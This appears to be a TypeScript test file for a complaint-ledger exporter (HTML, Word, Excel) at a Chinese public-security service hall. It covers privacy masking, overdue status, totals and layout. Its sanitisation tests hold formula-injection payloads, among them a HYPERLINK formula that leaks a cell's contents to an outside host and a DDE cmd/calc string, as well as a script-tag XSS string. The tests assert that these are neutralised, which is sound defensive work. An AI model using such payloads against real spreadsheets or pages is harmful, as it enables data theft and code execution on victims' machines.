/** The window's ledger on its three papers: the lines, the totals that must agree with them, and that no text in it can do anything. */
import ExcelJS from "exceljs";
import fc from "fast-check";
import { XMLValidator } from "fast-xml-parser";
import { describe, expect, it } from "vitest";
import { escalationLabels, caseStateLabels, caseStateNames, type EscalationName } from "../../src/machines/states.ts";
import { excerptCharactersMax, isOverdue, ledger, ledgerColumns, type LedgerInput, type LedgerRow } from "../../src/reports/ledger.ts";
import { ledgerDocx } from "../../src/reports/ledgerDocx.ts";
import { ledgerHtml } from "../../src/reports/ledgerHtml.ts";
import { ledgerXlsx } from "../../src/reports/ledgerXlsx.ts";
import { formulaNote, spreadsheetText } from "../../src/reports/safeText.ts";
import { isSatisfied, kinds, ratings, sources } from "../../src/rules/words.ts";
import { unzipped } from "./unzipped.ts";

const row = (changes: Partial<LedgerRow> = {}): LedgerRow => ({
  caseNo: "HY20261116-000047",
  registeredAt: "2026-11-16T01:30:00.000Z",
  source: "window",
  kind: "complaint",
  lane: "general",
  priority: "normal",
  complainant: { name: "李女士", phone: "13912340127", anonymous: false, confidential: false },
  serviceItem: "驾驶证期满换证",
  category: "车驾管",
  title: null,
  content: "取号后等待近两小时，期间无人解释。",
  unitName: "交警大队车管所",
  handlerName: "赵承办",
  state: "closed",
  escalation: "none",
  dispositionDueAt: "2026-11-19T09:00:00.000Z",
  dispositionApprovedAt: "2026-11-18T08:00:00.000Z",
  callback: { connected: true, rating: "satisfied" },
  answeredAt: "2026-11-20T02:00:00.000Z",
  round: 1,
  urgeCount: 0,
  repeatOfCaseNo: null,
  mergedIntoCaseNo: null,
  remark: null,
  ...changes,
});
const made = (rows: readonly LedgerRow[], changes: Partial<LedgerInput> = {}) =>
  ledger({ hall: "溧阳市公安局政务服务中心", from: "2026-11-01", to: "2026-11-30", rows, printedAt: "2026-11-30T09:05:00.000Z", printedBy: "孙窗口", ...changes });
const texts = (changes: Partial<LedgerRow> = {}) => Object.fromEntries((made([row(changes)]).rows[0] ?? []).map(({ text }, index) => [ledgerColumns[index]?.heading, text]));
const word = async (rows: readonly LedgerRow[], changes: Partial<LedgerInput> = {}) => unzipped(await ledgerDocx(made(rows, changes)));
const document = async (rows: readonly LedgerRow[]) => (await word(rows)).get("word/document.xml") ?? "";
async function workbook(rows: readonly LedgerRow[], changes: Partial<LedgerInput> = {}) {
  const read = new ExcelJS.Workbook();
  await read.xlsx.load((await ledgerXlsx(made(rows, changes))) as unknown as ArrayBuffer);
  return read;
}
const sheetOf = (book: ExcelJS.Workbook, name: string) => book.getWorksheet(name) ?? expect.fail(`There is no sheet ${name}.`);
/** The values below the headings, by heading. */
const linesOf = (sheet: ExcelJS.Worksheet) =>
  (sheet.getRows(5, sheet.rowCount - 4) ?? []).map((line) => Object.fromEntries(ledgerColumns.map(({ heading }, index) => [heading, line.getCell(index + 1).value])));
const totalsOf = (book: ExcelJS.Workbook) =>
  Object.fromEntries((sheetOf(book, "汇总").getRows(2, sheetOf(book, "汇总").rowCount - 1) ?? []).map((line) => [line.getCell(2).text, line.getCell(3).value]));

describe("a line of the ledger", () => {
  it("has the eighteen columns of the form, masked and in Shanghai's time", () => {
    expect(texts()).toEqual({
      序号: "1",
      工单号: "HY20261116-000047",
      登记时间: "2026-11-16 09:30",
      来源: "“办不成事”窗口",
      类别: "投诉",
      "诉求人（脱敏）": "李**\n139****0127",
      事项: "驾驶证期满换证",
      诉求摘要: "取号后等待近两小时，期间无人解释。",
      承办单位: "交警大队车管所",
      承办人: "赵承办",
      状态: "已闭环",
      办结期限: "2026-11-19 17:00",
      办结时间: "2026-11-18 16:00",
      是否超期: "否",
      督办级别: "未督办",
      回访结果: "满意",
      答复时间: "2026-11-20 10:00",
      备注: "—",
    });
  });

  it("hides the data of who is anonymous or asked for confidence, and what was written into the words", () => {
    const complainant = { name: "李女士", phone: "13912340127", anonymous: false, confidential: true };
    const content = "李女士13912340127反映";
    expect(texts({ complainant, content })).toMatchObject({ "诉求人（脱敏）": "诉求人要求保密", 诉求摘要: "诉求人***********反映" });
    expect(texts({ complainant: { ...complainant, confidential: false, anonymous: true } })["诉求人（脱敏）"]).toBe("匿名");
    expect(texts({ content })["诉求摘要"]).toBe("李**139****0127反映");
    expect(texts({ content, complainant: { name: null, phone: null, anonymous: false, confidential: false } })["诉求人（脱敏）"]).toBe("未留姓名");
  });

  it("sums the matter up in at most 60 characters, by its title where it has one", () => {
    const [, long] = [texts(), texts({ content: `${"👮".repeat(10)}\n${"等".repeat(100_000)}` })["诉求摘要"] ?? ""];
    expect([...long]).toHaveLength(excerptCharactersMax);
    expect(long).toMatch(/^👮{10} 等+…$/u);
    expect(texts({ title: "换证未办成" })["诉求摘要"]).toBe("换证未办成");
    expect(texts({ serviceItem: null })["事项"]).toBe("车驾管");
  });

  it.each([
    ["approved in time", {}, false],
    ["approved at the very instant", { dispositionApprovedAt: "2026-11-19T09:00:00.000Z" }, false],
    ["approved late", { dispositionApprovedAt: "2026-11-19T09:00:00.001Z" }, true],
    ["open and past", { state: "handling", dispositionApprovedAt: null }, true],
    ["open and not yet due", { state: "handling", dispositionApprovedAt: null, dispositionDueAt: "2026-12-01T09:00:00.000Z" }, false],
    ["suspended", { state: "suspended", dispositionApprovedAt: null }, false],
    ["returned", { state: "returned", dispositionApprovedAt: null }, null],
    ["merged", { state: "merged", dispositionApprovedAt: null }, null],
    ["without a limit", { dispositionDueAt: null, dispositionApprovedAt: null }, null],
  ] as const)("says whether the case was overdue: %s", (_, changes, late) => {
    expect(isOverdue(row(changes), "2026-11-30T09:05:00.000Z")).toBe(late);
    expect(texts(changes)["是否超期"]).toBe(late === null ? "—" : late ? "是" : "否");
  });

  it("tells the callback, and in the remarks what is unlike other cases", () => {
    expect([null, { connected: false, rating: null }, { connected: true, rating: null }, { connected: true, rating: "very-dissatisfied" as const }].map((callback) => texts({ callback })["回访结果"])).toEqual(["—", "未接通", "未作评价", "非常不满意"]);
    const changes = { priority: "urgent", lane: "enterprise", repeatOfCaseNo: "HY1", mergedIntoCaseNo: "HY2", round: 2, urgeCount: 3, remark: "当事人李女士在外地" } as const;
    expect(texts(changes)["备注"]).toBe("紧急；对企专窗；二次投诉（前件HY1）；并入HY2；第2轮办理；催办3次；当事人李**在外地");
  });
});

describe("the ledger's totals", () => {
  const instant = fc.date({ min: new Date("2026-11-01T00:00:00Z"), max: new Date("2026-12-31T00:00:00Z"), noInvalidDate: true }).map((date) => date.toISOString());
  const anyRow = fc
    .record({
      state: fc.constantFrom(...caseStateNames),
      escalation: fc.constantFrom(...(Object.keys(escalationLabels) as EscalationName[])),
      source: fc.constantFrom(...sources),
      kind: fc.constantFrom(...kinds),
      dispositionDueAt: fc.option(instant),
      dispositionApprovedAt: fc.option(instant),
      callback: fc.option(fc.record({ connected: fc.boolean(), rating: fc.option(fc.constantFrom(...ratings)) })),
    })
    .map(row);

  it("are what a count over the workbook's own lines gives", async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(anyRow, { maxLength: 40 }), async (rows) => {
        const book = await workbook(rows);
        const lines = linesOf(sheetOf(book, "台账")).slice(0, rows.length);
        const count = (heading: string, value: string) => lines.filter((line) => line[heading] === value).length;
        const ratingTexts = lines.map((line) => line["回访结果"]).filter((text): text is string => typeof text === "string" && text.includes("满意"));
        const satisfied = ratingTexts.filter((text) => !text.includes("不")).length;
        const totals = totalsOf(book);
        expect(totals).toMatchObject({ 登记件数: rows.length, 超期: count("是否超期", "是"), 已评价: ratingTexts.length, 满意: satisfied, 满意率: ratingTexts.length === 0 ? "—" : satisfied / ratingTexts.length });
        for (const label of Object.values(caseStateLabels)) expect(totals[label] ?? 0).toBe(count("状态", label));
        for (const label of Object.values(escalationLabels)) expect(totals[label]).toBe(count("督办级别", label));
      }),
      { numRuns: 15 },
    );
  });

  it("add up, and stand in words on every paper", async () => {
    const rows = [row(), row({ state: "handling", escalation: "level1", dispositionApprovedAt: null, callback: null }), row({ callback: { connected: true, rating: "dissatisfied" } })];
    const { totals, summary } = made(rows);
    expect(totals).toMatchObject({ total: 3, overdue: 1, rated: 2, satisfied: 1, satisfaction: "50.0%" });
    for (const counts of [totals.byState, totals.byLevel]) expect(counts.reduce((sum, each) => sum + each.count, 0)).toBe(3);
    expect(summary).toBe("合计3件。按状态：办理中1件、已闭环2件。按督办级别：未督办2件、一级督办1件、二级督办0件、三级督办0件。超期1件。回访评价2件，其中满意1件，满意率50.0%。");
    const head = ["“办不成事”窗口工作台账", "溧阳市公安局政务服务中心", "2026年11月1日至2026年11月30日", "打印时间：2026-11-30 17:05", "打印人：孙窗口", summary];
    const sheet = sheetOf(await workbook(rows), "台账");
    const papers = [ledgerHtml(made(rows)), (await document(rows)).replace(/<[^>]*>/g, ""), [1, 2, 3].map((number) => sheet.getCell(number, 1).text).join()];
    for (const paper of papers) for (const text of head) expect(paper).toContain(text);
  });

  it("say that nobody rated, never 0 %", () => {
    expect(made([row({ callback: null })]).summary).toContain("尚无回访评价");
    expect(ratings.filter(isSatisfied)).toHaveLength(3);
  });
});

describe("the workbook", () => {
  it("holds dates and numbers to sort by, and a limit that ends with its day on that day", async () => {
    const [line] = linesOf(sheetOf(await workbook([row({ dispositionDueAt: "2026-11-19T16:00:00.000Z" })]), "台账"));
    expect(line?.["序号"]).toBe(1);
    expect(line?.["登记时间"]).toEqual(new Date("2026-11-16T09:30:00.000Z"));
    expect(line?.["办结期限"]).toEqual(new Date("2026-11-19T23:59:00.000Z"));
    expect(ledgerHtml(made([row({ dispositionDueAt: "2026-11-19T16:00:00.000Z" })]))).toContain("<td>2026-11-19 24:00</td>");
    const sheet = sheetOf(await workbook([row()]), "台账");
    expect([3, 12, 13, 17].map((column) => sheet.getCell(5, column).numFmt)).toEqual(Array(4).fill("yyyy-mm-dd hh:mm"));
  });

  it("keeps its headings in sight, can be filtered, and prints on landscape A4 with the headings on every page", async () => {
    const sheet = sheetOf(await workbook([row(), row()]), "台账");
    expect(ledgerColumns.map((_, index) => sheet.getCell(4, index + 1).value)).toEqual(ledgerColumns.map(({ heading }) => heading));
    expect(sheet.views[0]).toMatchObject({ state: "frozen", ySplit: 4 });
    expect(sheet.autoFilter).toBe("A4:R6");
    expect(sheet.pageSetup).toMatchObject({ paperSize: 9, orientation: "landscape", fitToPage: true, fitToWidth: 1, fitToHeight: 0, printTitlesRow: "4:4" });
    expect(sheet.getColumn(8).width).toBeGreaterThan(30);
  });

  it.each(["=1+1", "+86 13", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u200b=1", "\u0000=1", "＝1+1", "＋1", "－1", "＠a", "\ufeff=1"])("lets no text be a formula: %j", (text) => {
    expect(spreadsheetText(text)).toMatch(/^'/);
  });

  it("leaves other texts as they are", () => {
    for (const text of ["李女士", "1-2号窗口", "—", "a=b", "'quoted'", "“办不成事”", "2026-11-16"]) expect(spreadsheetText(text)).toBe(text);
  });

  it("has strings only where foreign text stands, says that it marked them, and keeps them to the letter otherwise", async () => {
    const attack = `=HYPERLINK("http://example.com/?"&A1,"点我")`;
    const foreign = { title: attack, serviceItem: attack, unitName: attack, handlerName: "=1", caseNo: "=2", remark: "@x", complainant: { name: "=cmd|' /C calc'!A0", phone: "=3", anonymous: false, confidential: false } };
    const written = ["_x003D_1+1", "_x000D_", "_x0000_甲", "a_x005F_b"];
    const book = await workbook([row(foreign), ...written.map((title) => row({ title }))], { hall: "=1" });
    book.eachSheet((sheet) => sheet.eachRow((line) => line.eachCell((cell) => expect([ExcelJS.ValueType.Formula, ExcelJS.ValueType.Hyperlink, ExcelJS.ValueType.Error]).not.toContain(cell.type))));
    const [first, ...others] = linesOf(sheetOf(book, "台账"));
    expect(first).toMatchObject({ 工单号: "'=2", 事项: `'${attack}`.slice(0, 30) + "…", 诉求摘要: `'${attack}`, 承办人: "'=1" });
    expect(others.map((line) => line["诉求摘要"])).toEqual(written);
    expect(sheetOf(book, "说明").getColumn(1).values).toContain(formulaNote);
    const parts = unzipped(await ledgerXlsx(made([row(foreign)])));
    for (const xml of parts.values()) expect(xml).not.toMatch(/<f[ >]/);
  });
});

describe("no text of the ledger", () => {
  const bad = "<script>alert(1)</script>\u0000\u0001\u001f\ud800\ufffe\uffff]]>&\u202e'\"";
  const rows = [row({ title: bad, serviceItem: bad, unitName: bad, handlerName: bad, caseNo: bad, remark: bad, repeatOfCaseNo: bad, complainant: { name: bad, phone: bad, anonymous: false, confidential: false } })];

  it("runs in the page", () => {
    const page = ledgerHtml(made(rows, { hall: bad, printedBy: bad }));
    expect(page).not.toMatch(/<script|<img|https?:|url\(/);
    expect(page).toContain("&lt;script&gt;alert(1)&lt;/script&gt;]]&gt;&amp;&#39;&quot;");
  });

  it("breaks the XML of a document or a workbook", async () => {
    for (const parts of [await word(rows, { hall: bad, printedBy: bad }), unzipped(await ledgerXlsx(made(rows, { hall: bad, printedBy: bad })))]) {
      for (const [name, xml] of parts) {
        if (!/\.(xml|rels)$/.test(name)) continue;
        expect([name, XMLValidator.validate(xml)]).toEqual([name, true]);
        expect(xml).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffd-\uffff\u202e]/);
      }
    }
  });
});

describe("the ledger as a whole", () => {
  it("of a period without cases says so on every paper", async () => {
    expect(made([]).summary).toBe("合计0件。");
    expect(ledgerHtml(made([]))).toContain("本期无登记事项");
    expect(await document([])).toContain("本期无登记事项");
    const book = await workbook([]);
    expect(sheetOf(book, "台账").getCell(5, 1).value).toBe("本期无登记事项");
    expect(totalsOf(book)).toMatchObject({ 登记件数: 0, 超期: 0, 满意率: "—" });
    expect(made([], { to: "2026-11-01" }).period).toBe("2026年11月1日");
  });

  it("is landscape A4 with its headings repeated, each row in one piece, in the fonts of official documents", async () => {
    const page = ledgerHtml(made([row()]));
    for (const style of ["@page{size:A4 landscape", "thead{display:table-header-group}", "break-inside:avoid", '"仿宋_GB2312"', '"Noto Serif CJK SC"']) expect(page).toContain(style);
    const parts = await word([row()]);
    const xml = parts.get("word/document.xml") ?? "";
    expect(xml.match(/<w:tblHeader\/>/g)).toHaveLength(1);
    expect(xml.match(/<w:cantSplit\/>/g)).toHaveLength(2);
    expect(xml).toMatch(/<w:pgSz w:w="16838" w:h="11906" w:orient="landscape"/);
    expect(parts.get("word/styles.xml")).toContain('w:eastAsia="黑体"');
    for (const { text } of made([row()]).rows.flat()) for (const part of text.split("\n")) expect(xml).toContain(`>${part}<`);
  });

  it("of 2,000 cases holds every one of them on all three papers", async () => {
    const rows = Array.from({ length: 2_000 }, (_, index) => row({ caseNo: `HY20261116-${String(index).padStart(6, "0")}`, content: "取号后等待近两小时，期间无人解释。".repeat(40) }));
    const whole = made(rows);
    const page = ledgerHtml(whole);
    const [docx, xlsx] = [await ledgerDocx(whole), await ledgerXlsx(whole)];
    expect(page.match(/<tr>/g)).toHaveLength(2_001);
    expect(unzipped(docx).get("word/document.xml")?.match(/<w:tr>/g)).toHaveLength(2_001);
    expect(unzipped(xlsx).get("xl/worksheets/sheet1.xml")?.match(/<row /g)).toHaveLength(2_004);
  });
});
